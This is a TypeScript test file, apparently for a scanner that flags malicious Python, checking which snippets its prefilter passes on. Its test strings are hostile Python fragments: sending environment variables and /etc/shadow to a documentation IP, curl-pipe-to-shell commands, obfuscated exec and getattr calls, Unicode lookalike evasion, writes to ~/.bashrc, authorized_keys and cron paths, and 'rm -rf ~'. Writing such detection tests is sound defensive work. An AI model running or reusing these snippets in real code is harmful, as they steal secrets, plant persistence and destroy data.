import fc from 'fast-check';
import { beforeAll, expect, test } from 'vitest';
import { analyse } from '../interpreter/analyse.ts';
import { sinkAt } from '../knowledge/paths.ts';
import { prepare, scanFile } from '../scan-file.ts';
import type { Language } from '../source-file.ts';
import { handlerOf } from './api.ts';
import { pythonLibrary } from './library.ts';
import { COMPATIBLE, mayMatter, wordsIn } from './prefilter.ts';
import { parsePython } from './statements.ts';

beforeAll(() => prepare(new Set(['python', 'shell', 'javascript', 'powershell'])));

const path = 'a.py';
const partOf = (language: Language, text: string) =>
  scanFile({ path, language, text, bytes: new Uint8Array() }, { indicators: false }).findings;

/** What is found when nothing is passed over. */
function followed(text: string) {
  const { findings, facts } = analyse(
    parsePython(text).program,
    { path, text },
    pythonLibrary,
    (part) => partOf(part.language, part.text),
  );
  return [...findings.map(({ rule, message }) => `${rule} ${message}`), ...facts];
}
const passedOver = (text: string) => !mayMatter(wordsIn(text));

test.each([
  'import os, requests\nrequests.post(u, json=dict(os.environ))',
  'from httpx import post\nfrom os import environ as e\npost(u, json=e)',
  'import os as o\no.system("curl http://203.0.113.9 | sh")',
  'import os\nrun = getattr(os, a + b)',
  'import os as o\ndef f(m): return getattr(m, "sys" + "tem")\nf(o)',
  'import os\ndef f(m): return getattr(m, "sys" + "tem")\nf(os)',
  'exec(bytes([1, 2, 3, 4]))',
  'exec("imp" + "ort os\\nos.sys" + "tem(a)")',
  'import subprocess as s\ns.run("cu" + "rl http://203.0.113.9/a | s" + "h", shell=True)',
  'open(p, "a").write("x")  # ~/.bashrc',
  'open("~/.bas" + "hrc", "a").write("x")',
  'open("~/.bas" f"hrc", "a").write("x")',
  'open("~/\\x2ebashrc", "a").write("x")',
  'open("~/.b" \'\\141shrc\', "a").write("x")',
  'open(\'\'\'~/.bas\'\'\' + "hrc", "a").write("x")',
  'f = open("~/.zshrc", "a")\nprint("x", file=f)',
  'open(Path.home() / ".config" / "autostart" / n, "w").write("x")',
  'import requests\nrequests.post("https://a.invalid", data=input())',
  'import urllib.request as r\nr.build_opener().open("https://a.invalid/" + input())',
  '\u017fubprocess.run(a)',
])('%j is not passed over', (text) => {
  expect(passedOver(text)).toBe(false);
});

test.each([
  'import json\nprint(json.dumps({"a": 1}))',
  'import requests\nprint(requests.get("https://a.invalid").text)',
  'import requests\ndef f(input: str): return requests.get(u, input=a.input)',
  'import os, sys\nvalue = getattr(args, name)\nos.path.join(a, b)',
  'model.eval()\nopen("a.txt", "w").write("b")',
])('%j is passed over, and shows nothing', (text) => {
  expect(passedOver(text)).toBe(true);
  expect(followed(text)).toEqual([]);
});

test('letters in all forms that Python takes for plain ones are seen', () => {
  for (let code = 0x80; code < 0x20000; code++) {
    if (code >= 0xd800 && code < 0xe000) continue;
    const char = String.fromCodePoint(code);
    if (!/\p{ID_Continue}/u.test(char)) continue;
    if (/[\w]/.test(char.normalize('NFKC'))) expect(COMPATIBLE.test(char), char).toBe(true);
  }
});

const WRITTEN = [
  '~/.bashrc',
  '~/.config/fish/config.fish',
  '~/Library/LaunchAgents/a.plist',
  '~/.config/autostart/a.desktop',
  '/etc/systemd/system/a.service',
  '/etc/rc.local',
  '~/.git/hooks/pre-commit',
  '/etc/cron.d/a',
  '~/SOUL.md',
  '~/.openclaw/openclaw.json',
  '~/.openclaw/hooks/a.js',
  '~/.ssh/authorized_keys',
];

test.each(WRITTEN)('a write to %s is looked at, however its path is put together', (place) => {
  expect(sinkAt(place)).not.toBe('file');
  const parts = place.split('/').map((part) => JSON.stringify(part));
  for (const written of [
    JSON.stringify(place),
    `os.path.join(${parts.join(', ')})`,
    `Path(${parts[0]}) / ${parts.slice(1).join(' / ')}`,
    parts.join(' + "/" + '),
  ])
    expect(passedOver(`open(${written}, "w").write(x)`), written).toBe(false);
});

const LINES = [
  ...['import os', 'import os as o', 'from os import *', 'import requests', 'import socket'],
  ...['import base64, pickle', 'from pathlib import Path', 'import shutil, json', 'import marshal'],
  ...['a = os.environ', 'a = os.getenv("API_TOKEN")', 'a = o.environ["SECRET_KEY"]'],
  ...['a = open("/etc/shadow").read()', 'a = Path("~/.ssh/id_rsa").read_text()', 'a = input("?")'],
  ...['import sys', 'a = sys.argv[1]', 'a = socket.gethostname()', 'a = b', 'b = str(a)'],
  ...['b = base64.b64encode(a)', 'b = a[::-1]', 'b = f"{a}.x"', 'b = "-".join([a, a])'],
  ...['a = base64.b64decode("aW1wb3J0IG9zCm9zLnN5c3RlbSgieCIp")', 'a = bytes.fromhex("00ff00ff")'],
  ...[
    'a = requests.get("http://203.0.113.9/a").text',
    'requests.post("http://203.0.113.9", data=a)',
  ],
  ...['requests.post(b, json={"k": a})', 'socket.gethostbyname(b)', 's = socket.socket()'],
  ...['s.connect(("203.0.113.9", 1))', 's.send(a)', 'exec(a)', 'eval(b)', 'pickle.loads(a)'],
  ...['os.system("curl http://203.0.113.9/a | sh")', 'o.system(a)', 'os.popen("rm -rf ~")'],
  ...['c = "~/.bas"', 'c = "~/.bashrc"', 'c = Path.home() / "SOUL.md"', 'c = "~/.zsh" + "rc"'],
  ...['open(c, "a").write(a)', 'f = open(c, "w")', 'f.write("x")', 'print(a, file=f)'],
  ...['json.dump(a, f)', 'shutil.copy(a, c)', 'Path(c).write_text(b)', 'with open(c, "a") as f:'],
  ...['  f.write(a)', 'def g(x):', '  return x', '  requests.post("http://203.0.113.9", data=x)'],
  ...['g(a)', 'b = g(a)', 'getattr(os, "sys" + "tem")(a)', 'getattr(m, k)(a)', 'm = os'],
  ...['__import__("o" + "s").system(a)', 'globals()["ev" + "al"](a)', 'for m in [os, o]:'],
  ...['\uff45\uff58\uff45\uff43(a)', 'k = "sys" + "tem"', 'if a:', 'try:', 'except E:', 'x = 1'],
];

test('a text that is passed over shows nothing when it is followed', () => {
  let shown = 0;
  const lines = fc.array(fc.constantFrom(...LINES), { minLength: 1, maxLength: 9 });
  fc.assert(
    fc.property(lines, (list) => {
      const text = list.join('\n');
      if (!passedOver(text)) {
        shown++;
        return;
      }
      expect(followed(text), text).toEqual([]);
    }),
    { seed: 6, numRuns: 4000 },
  );
  expect(shown).toBeGreaterThan(400);
});

test('whatever is called by its name in the tables is among the words', () => {
  // Data of any kind that goes to any call is looked at, when there is a rule for it.
  const sources = ['os.environ', 'open("/etc/shadow")', 'input()', 'keyring.get_password()'];
  const sinks = ['requests.post', 'httpx.put', 'urllib.request.urlopen', 'socket.gethostbyname'];
  for (const sink of sinks) {
    expect(handlerOf(sink)).toBeDefined();
    for (const source of sources)
      expect(passedOver(`import keyring, os\n${sink}("http://203.0.113.9/", ${source})`)).toBe(
        false,
      );
  }
});
